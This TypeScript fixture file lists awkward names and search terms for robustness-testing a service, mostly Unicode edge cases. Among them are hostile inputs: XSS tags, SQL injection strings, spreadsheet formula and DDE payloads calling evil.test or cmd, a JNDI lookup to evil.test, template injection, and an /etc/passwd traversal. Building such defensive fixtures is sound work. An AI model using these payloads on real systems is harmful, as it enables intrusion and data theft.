// Names and texts that break careless programs; a fixed share of the population carries one of them.

const LONG = '极长的名称'.repeat(800) // 4,000 characters: the wire's own limit

/** Written with escapes where an editor would hide or reorder them. */
export const AWKWARD_NAMES: readonly string[] = [
  '\u{2CC56}\u{36C3}', // 𬱖㛃: outside the basic plane, and an extension-A character
  '王\u{2B8B8}',
  '赵\u{20BB7}',
  '龘',
  '甲',
  '〇',
  '阿卜杜拉·买买提',
  '李\u{E0100}明', // with a variation selector
  'Ａlice　Ｗａｎｇ', // full-width
  'O\u2019Brien-\u0142\u00fckasz',
  '<img src=x onerror=alert(1)>',
  '"><script>alert(document.domain)</script>',
  "Robert'); DROP TABLE subjects;--",
  "' OR '1'='1",
  '\u202Egnp.exe\u202C 王', // right-to-left override
  '\u2067\u05d3\u05d5\u05d2\u05de\u05d4\u2069 李',
  '张\tTab\u0007Bell\u001b[31m', // control characters but NUL
  '=HYPERLINK("http://evil.test","x")',
  '+cmd|\u0027 /C calc\u0027!A0',
  '@SUM(1+1)*cmd',
  '\uff1d1+1', // full-width equals sign
  '-2+3',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} 一家', // joined emoji
  '\u{1F9D1}\u{1F3FD}\u200D\u{1F680}',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ea\u0349\u036f\u031el\u0368\u0349', // stacked marks
  '${jndi:ldap://evil.test/a}',
  '{{constructor.constructor("return 1")()}}',
  '../../../../etc/passwd',
  'CON',
  'null',
  'undefined',
  'NaN',
  'a,b;"c"\r\nd',
  '\ufeff李明', // byte-order mark first
  '张\u200b伟', // zero-width space
  LONG,
]

/** Search words and pages of the same kind, for the service log. */
export const AWKWARD_DETAILS: readonly string[] = [
  '=IMPORTXML("http://evil.test","//a")',
  '</td></table><svg onload=alert(1)>',
  '冷冻虾\r\n进口',
  '\u202Etxt.slx',
  '@@version; select pg_sleep(1)',
  '\u{1F990}\u{1F41F} 进口',
  `很长的检索词${'越南水产'.repeat(998)}`.slice(0, 4_000),
]
